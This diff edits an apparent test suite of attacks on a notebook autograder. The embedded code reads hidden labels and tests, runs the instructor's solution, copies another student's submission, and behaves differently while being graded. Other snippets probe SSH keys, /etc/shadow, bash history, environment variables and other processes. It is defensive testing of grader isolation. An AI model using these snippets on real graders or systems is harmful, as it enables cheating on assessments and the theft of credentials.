@@ -25,7 +25,7 @@ def rms(x):
 READS_LABELS = """
 import glob, os
 
-places = [os.environ.get("PHYSIODL_EXAM") or "/nowhere", "@CLASS@/hidden", *glob.glob("/*/hidden"), *glob.glob("/tmp/*/hidden")]
+places = [os.environ.get("PHYSIODL_EXAM") or "/nowhere", "@CLASS@/hidden", "/hidden", *glob.glob("/*/hidden")]
 labels = None
 for place in places:
     try:
@@ -64,7 +64,8 @@ def offset(x):
     return 0.0
 
 for path in sorted(glob.glob("@CLASS@/submitted/*/08_arena/08_arena.ipynb"), reverse=True):
-    cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"]) for c in json.load(open(path))["cells"]}
+    cells = json.load(open(path))["cells"]
+    cells = {c["metadata"].get("nbgrader", {}).get("grade_id"): "".join(c["source"]) for c in cells}
     if "canary-neigh" in cells["negate"]:
         tell("what another student wrote", cells["negate"])
         exec(cells["offset"])
@@ -111,11 +112,12 @@ def predict(signals):
 READS_HOME = """
 import glob, os
 
-for place in ("~/.ssh", "@HOME@/.ssh", "@SHARED@", "/dev/shm/arena-*", "/root/.ssh", "/home/*/.ssh", "/root/.bash_history"):
+for place in ("~/.ssh", "@HOME@/.ssh", "@SHARED@", "/dev/shm/arena-*"):
     for path in glob.glob(os.path.expanduser(place)):
         for name in [path] if os.path.isfile(path) else [os.path.join(path, n) for n in os.listdir(path)]:
             tell("read", name, open(name, "rb").read(300).decode("latin-1"))
-for name in ("/etc/shadow", "/etc/ssh/ssh_host_ed25519_key", "/var/log/syslog", "/var/spool/cron"):
+# What is the user's own is not shown.
+for name in ("/etc/shadow", "/var/log/syslog", "/var/spool/cron", "/root/.bash_history", *glob.glob("/home/*/.ssh")):
     if os.access(name, os.R_OK):
         tell("could read", name)
 for name, value in os.environ.items():
@@ -276,18 +278,48 @@ def rms(x):
 """
 
 ATTACKS = [
-    Attack("reads_hidden_tests", 1, "Looks for notebooks with the hidden tests and answers from them.", {"rms": READS_TESTS}),
+    Attack(
+        "reads_hidden_tests",
+        1,
+        "Looks for notebooks with the hidden tests and answers from them.",
+        {"rms": READS_TESTS},
+    ),
     Attack("reads_labels", 2, "Loads the hidden labels and returns them as predictions.", {"predict": READS_LABELS}),
     Attack("runs_the_solution", 2, "Runs the instructor's solution instead of an own one.", {"rms": RUNS_SOLUTION}),
     Attack("copies_neighbour", 2, "Runs what another student handed in.", {"offset": COPIES_NEIGHBOUR}),
-    Attack("reads_instructors_files", 2, "Reads class key, gradebook, journal and the course's solutions.", {"rms": READS_COURSE}),
-    Attack("walks_frames", 5, "Looks for the labels in the caller's frames and in the garbage collector.", {"predict": WALKS_FRAMES}),
-    Attack("detects_grading", 31, "Answers at random at home and from the labels while being graded.", {"predict": DETECTS_GRADING}),
+    Attack(
+        "reads_instructors_files",
+        2,
+        "Reads class key, gradebook, journal and the course's solutions.",
+        {"rms": READS_COURSE},
+    ),
+    Attack(
+        "walks_frames",
+        5,
+        "Looks for the labels in the caller's frames and in the garbage collector.",
+        {"predict": WALKS_FRAMES},
+    ),
+    Attack(
+        "detects_grading",
+        31,
+        "Answers at random at home and from the labels while being graded.",
+        {"predict": DETECTS_GRADING},
+    ),
     Attack("reads_home", None, "Reads the grader's home, shared memory files and environment.", {"rms": READS_HOME}),
-    Attack("reads_processes", None, "Reads environment, root and memory of other processes; ptrace.", {"rms": READS_PROCESSES}),
+    Attack(
+        "reads_processes",
+        None,
+        "Reads environment, root and memory of other processes; ptrace.",
+        {"rms": READS_PROCESSES},
+    ),
     Attack("reads_kernel_objects", None, "Reads System V shared memory and kernel keyrings.", {"rms": READS_KERNEL}),
     Attack("sees_tests_run", None, "A hook of IPython prints each cell before it runs.", {"rms": SEES_TESTS_RUN}),
-    Attack("reads_history", None, "A cell at the end prints the input history and the tests' variables.", added=(("negate", READS_HISTORY),)),
+    Attack(
+        "reads_history",
+        None,
+        "A cell at the end prints the input history and the tests' variables.",
+        added=(("negate", READS_HISTORY),),
+    ),
     Attack(
         "keeps_inputs",
         None,
@@ -297,4 +329,4 @@ ATTACKS = [
         most={"rms": 4.0},
     ),
     Attack("climbs_out", None, "Tries to leave its folder through inherited file descriptors.", {"rms": CLIMBS_OUT}),
-]  # fmt: skip
+]
